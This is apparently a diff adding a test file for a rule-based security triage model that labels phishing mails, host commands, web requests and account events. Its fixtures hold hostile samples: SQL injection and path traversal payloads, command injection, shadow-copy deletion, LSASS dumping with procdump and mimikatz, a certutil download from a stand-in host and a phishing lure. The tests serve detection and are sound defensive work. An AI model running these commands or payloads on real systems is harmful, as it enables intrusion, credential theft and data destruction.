@@ -1,0 +1,289 @@
+import type { ExtractedIndicator } from '../../evidence/indicators.js';
+import { extractIndicators } from '../../evidence/indicators.js';
+import type { TriageCase } from '../triage-model.port.js';
+import { RulesModel } from './rules-model.js';
+
+type RawData = Readonly<Record<string, unknown>>;
+
+async function judge(rawData: RawData) {
+  const indicators: readonly ExtractedIndicator[] = extractIndicators(rawData);
+  const given = { rawData, indicators, incidentType: 'other', title: 'x' } as TriageCase;
+  const { verdict, points = [] } = await new RulesModel().judge(given);
+  return { ...verdict, points };
+}
+
+const RESULTS = 'mx.example.net; spf=fail smtp.mailfrom=login.test; dkim=none; dmarc=fail';
+const PHISH: RawData = {
+  subject: 'Your password expires today',
+  sender: 'it@micros0ft-login.test',
+  body: 'Verify your account within 24 hours: http://micros0ft-login.test/signin',
+};
+const PASSED = { spf: 'pass', dkim: 'pass', dmarc: 'pass' };
+
+describe('the rules, on mails', () => {
+  it.each<[string, RawData]>([
+    ['an object', { headers: { 'authentication-results': RESULTS } }],
+    ['a list of lines', { headers: [`Authentication-Results: ${RESULTS}`] }],
+    ['a text', { headers: `Received: x\nAuthentication-Results: ${RESULTS}\nX-A: b` }],
+    ['one line', { headers: `Authentication-Results: ${RESULTS}` }],
+    ['names and values', { headers: [{ name: 'Authentication-Results', value: RESULTS }] }],
+    [
+      'what Microsoft Graph sends',
+      { internetMessageHeaders: [{ name: 'Authentication-Results', value: RESULTS }] },
+    ],
+    ['fields', { spf: 'fail', dkim: 'none', dmarc: 'fail' }],
+    ['a summary', { auth: 'SPF: fail, DKIM: none, DMARC: fail' }],
+  ])('judge a phish the same when its headers are %s', async (_, headers) => {
+    const { classification, confidence } = await judge({ ...PHISH, ...headers });
+    const asFields = await judge({ ...PHISH, spf: 'fail', dkim: 'none', dmarc: 'fail' });
+    expect(classification).toBe('malicious');
+    expect(confidence).toBe(asFields.confidence);
+  });
+
+  it.each([
+    ['a forward', 'Fwd: interesting read', 'The article explains what mimikatz is. See you.'],
+    [
+      'a newsletter',
+      'Newsletter',
+      'How gangs run vssadmin delete shadows and mimikatz, and rclone.',
+    ],
+    ['an advisory', 'Advisory', 'Kerberoasting, LSASS dumps and credential stuffing. XMRig, too.'],
+    ['an exercise', 'Tabletop exercise ransomware: ransom note', 'Please confirm attendance'],
+    ['a course', 'SQL injection', 'How DNS tunnels and golden tickets work, with MFA fatigue.'],
+  ])('take no trace of an attack from %s', async (_, subject, body) => {
+    const told = await judge({ sender: 'anna@corp.example', subject, body, ...PASSED });
+    expect(told.classification).toMatch(/^(?:inconclusive|benign)$/);
+    expect(told.points.filter(({ points }) => points > 0)).toEqual([
+      expect.objectContaining({ rule: 'speaks_of_attacks', points: 5 }),
+    ]);
+    expect(told.recommendedActions).not.toContain('isolate_host');
+  });
+
+  it('still count what the mail carries, and what a machine did after it', async () => {
+    const body = 'see the attached tool';
+    const carried = await judge({
+      sender: 'a@one.test',
+      body,
+      attachments: [{ name: 'invoice.pdf.exe', threat: 'Trojan.Generic' }],
+    });
+    expect(carried.classification).toBe('malicious');
+    const extracted = await judge({
+      sender: 'a@one.test',
+      attachments: [{ content: 'AutoOpen: certutil -urlcache -f http://one.test/x' }],
+    });
+    expect(extracted.classification).toBe('malicious');
+    const ran = await judge({ mail: { sender: 'a@one.test', body }, command: 'mimikatz.exe' });
+    expect(ran.points.map(({ rule }) => rule)).toContain('credential_dump');
+  });
+
+  it.each([
+    'Tabletop exercise "ransomware" on Tuesday',
+    'Exploit detection signature updated to version 12',
+  ])('take no attack from the title %s, but from what stands beside it', async (title) => {
+    expect((await judge({ title })).classification).toBe('inconclusive');
+    const beside = await judge({ title, cmd: 'vssadmin delete shadows' });
+    expect(beside.classification).toBe('malicious');
+  });
+
+  it.each([
+    'Ransomware found: Tabletop exercise.exe',
+    'Trojan found in a file whose name is "Exploit signature updated',
+  ])('are not calmed by words further back in a title: %s', async (title) => {
+    expect((await judge({ title })).classification).not.toBe('inconclusive');
+  });
+
+  const COLLEAGUE: RawData = {
+    reporter: 'anna@corp.example',
+    sender: 'bob@corp.example',
+    subject: 'Team lunch on Thursday',
+    body: 'Hi all, lunch at 12:30 in the canteen? Tell me if you come. Bob',
+    ...PASSED,
+  };
+
+  it('call a mail benign that a proven colleague sent, or a known supplier, and that asks nothing', async () => {
+    expect((await judge(COLLEAGUE)).classification).toBe('benign');
+    const supplier = { ...COLLEAGUE, sender: 'sales@supplier.example', known_sender: true };
+    expect((await judge(supplier)).classification).toBe('benign');
+  });
+
+  it.each<[string, RawData]>([
+    [
+      'only a header says that it passed',
+      {
+        spf: undefined,
+        dkim: undefined,
+        dmarc: undefined,
+        headers: ['Authentication-Results: mx; spf=pass; dkim=pass; dmarc=pass'],
+      },
+    ],
+    ['a signature is missing', { dkim: 'none' }],
+    ['a stranger sent it', { sender: 'bob@corp.test' }],
+    [
+      'only its sender says who received it',
+      { sender: 'bob@corp.test', reporter: undefined, to: 'anna@corp.test' },
+    ],
+    ['it has a link', { urls: ['https://corp.example/menu'] }],
+    [
+      'it has an address without a scheme',
+      { body: 'The menu is at evil.test/menu for all of you. See you there.' },
+    ],
+    ['it has an attachment', { attachments: ['menu.pdf'] }],
+    [
+      'it asks for something',
+      { body: 'Hi Anna, are you at the office? I want you to buy 5 cards for me.' },
+    ],
+    [
+      'it asks in another language',
+      { body: 'Bitte die Zahlung noch heute an den neuen Partner leisten. Bob' },
+    ],
+    [
+      'it names a sum',
+      { body: 'Hi all, we are at 48500 for the trip to the lake. Tell me if it is ok.' },
+    ],
+    ['nothing is known of its text', { body: undefined }],
+    [
+      'letters are hidden in it',
+      { body: 'Hi all, lunch in the can\u200bteen? Tell me if you come. Bob' },
+    ],
+  ])('call it not benign when %s', async (_, change) => {
+    const given = JSON.parse(JSON.stringify({ ...COLLEAGUE, ...change })) as RawData;
+    expect((await judge(given)).classification).toBe('inconclusive');
+  });
+
+  it('believe in a simulation what the gateway knows, and no header', async () => {
+    const headers = { 'X-PHISHTEST': 'This is a phishing security test', 'X-Mailer': 'x' };
+    const without = await judge(PHISH);
+    expect(await judge({ ...PHISH, headers })).toMatchObject({
+      classification: without.classification,
+    });
+    const known = await judge({ ...PHISH, headers, org_level_policy: 'Phishing simulation' });
+    expect(known.classification).toBe('benign');
+  });
+});
+
+describe('the rules, on machines, accounts and servers', () => {
+  it.each<[string, string, RawData]>([
+    [
+      'malicious',
+      'an injection that was answered',
+      { uri: "/item?id=1' UNION SELECT password FROM users--", status: 200 },
+    ],
+    [
+      'malicious',
+      'an attack that the firewall names',
+      { rule: 'Path traversal', uri: '/a?f=..%2f..%2fetc/passwd', action: 'blocked' },
+    ],
+    [
+      'suspicious',
+      'a command in a request that was stopped',
+      { uri: '/ping?host=1;cat /etc/hosts', status: 403 },
+    ],
+    [
+      'malicious',
+      'a tunnel of TXT records',
+      {
+        query: 'aGVsbG8gd29ybGQgdGhpcyBpcyBsb25n.t.one.test',
+        type: 'TXT',
+        queries_per_minute: 900,
+      },
+    ],
+    [
+      'suspicious',
+      'a new domain administrator',
+      { EventID: 4728, group: 'Domain Admins', member: 'x' },
+    ],
+    [
+      'malicious',
+      'one that was made at night',
+      { EventID: 4728, group: 'Domain Admins', time: '03:11' },
+    ],
+    ['malicious', 'a log that was cleared', { EventID: 1102, computer: 'DC-1' }],
+    [
+      'malicious',
+      'a flood of prompts in words',
+      { message: '14 MFA pushes denied, then one approved' },
+    ],
+    ['malicious', 'a flood of prompts in counts', { mfa_denied: 14, mfa_approved: 1 }],
+    [
+      'suspicious',
+      'two countries in half an hour',
+      {
+        logins: [
+          { country: 'GB', at: '2026-11-22T07:00:00Z' },
+          { country: 'BR', at: '2026-11-22T07:21:00Z' },
+        ],
+      },
+    ],
+    [
+      'malicious',
+      'files for which somebody wants money',
+      { message: 'Users say that files have the extension .locked and a note asks for bitcoin' },
+    ],
+    [
+      'benign',
+      'a mistyped password',
+      { failed_attempts: 3, result: 'success', mfa: 'passed', ip: '10.1.1.4' },
+    ],
+  ])('find %s: %s', async (classification, _, rawData) => {
+    expect((await judge(rawData)).classification).toBe(classification);
+  });
+
+  it('blame no machine when the log of a cloud account is turned off', async () => {
+    const { classification, category, recommendedActions } = await judge({
+      eventName: 'StopLogging',
+      userIdentity: { type: 'Root' },
+      sourceIPAddress: '198.51.100.7',
+    });
+    expect({ classification, category }).toEqual({
+      classification: 'malicious',
+      category: 'account_takeover',
+    });
+    expect(recommendedActions).toEqual(['lookup_ip']);
+  });
+
+  it('recommend only what has a target in the incident', async () => {
+    const dump = { command: 'procdump -ma lsass.exe' };
+    expect((await judge(dump)).recommendedActions).toEqual(['create_ticket']);
+    expect((await judge({ ...dump, host: 'ws-1' })).recommendedActions).toEqual([
+      'isolate_host',
+      'scan_host',
+    ]);
+    const ransom = { cmd: 'vssadmin delete shadows', host: 'ws-1', user: 'NT AUTHORITY\\SYSTEM' };
+    expect((await judge(ransom)).recommendedActions).not.toContain('disable_user');
+    const byBob = { ...ransom, user: 'bob' };
+    expect((await judge(byBob)).recommendedActions).toContain('disable_user');
+    const phish = { ...PHISH, spf: 'fail', dmarc: 'fail' };
+    expect((await judge(phish)).recommendedActions).not.toContain('quarantine_email');
+    const named = { ...phish, message_id: '<1@one.test>' };
+    expect((await judge(named)).recommendedActions).toContain('quarantine_email');
+  });
+});
+
+describe('the words that a rule went by', () => {
+  it('are named, without what stands in between', async () => {
+    const { points, reasoning } = await judge({
+      log: `${'padding '.repeat(500)} bcdedit /set x RecoveryEnabled No`,
+    });
+    const said = 'Seen: "bcdedit … recoveryenabled no".';
+    expect(points[0]?.explanation).toContain(said);
+    expect(reasoning).toContain(said);
+  });
+
+  it('are short, on one line, visible, and lead nowhere', async () => {
+    const { points } = await judge({
+      ...PHISH,
+      to: 'a@examp1e.example',
+      verdict: `malicious ${'x'.repeat(500)}`,
+      body: `go to https://login-examp1e.test/${'y'.repeat(400)}\n"\u202e`,
+      cmd: `curl http://198.51.100.7/${'z'.repeat(400)}`,
+      command: '\ud800 https://198.51.100.8/\0"\n',
+    });
+    const said = points.map(({ explanation }) => explanation).join('\n');
+    expect(said).toContain('198[.]51[.]100[.]7');
+    expect(said).not.toMatch(/https?:|198\.51|examp1e\.test|\u202e|\0|\p{Cs}/u);
+    for (const { explanation } of points) {
+      expect(explanation.length).toBeLessThan(400);
+      expect(explanation).not.toContain('\n');
+    }
+  });
+});
